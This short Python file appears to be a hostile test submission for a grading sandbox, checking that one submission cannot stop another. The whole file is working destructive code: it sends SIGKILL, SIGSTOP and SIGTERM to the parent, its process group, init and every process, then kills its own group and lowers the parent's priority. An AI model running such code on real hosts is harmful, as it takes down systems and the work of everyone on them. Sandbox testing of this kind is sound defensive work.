"""Send SIGKILL, SIGSTOP and SIGTERM to the parent, its group and every process there is.

Against: no submission stops another.
"""
# stock: would harm the grading host: kills every process

# %% after imports
import os
import signal

for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, 0):
    for process in (os.getppid(), 0, -1, 1, -os.getpgrp()):
        try:
            os.kill(process, number)
            print("LOOT: sent a signal")
        except OSError as error:
            print(error.strerror)
slow_down = lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
for attempt in (lambda: os.killpg(os.getpgrp(), 9), slow_down, os.setsid):
    try:
        attempt()
    except OSError as error:
        print(error.strerror)
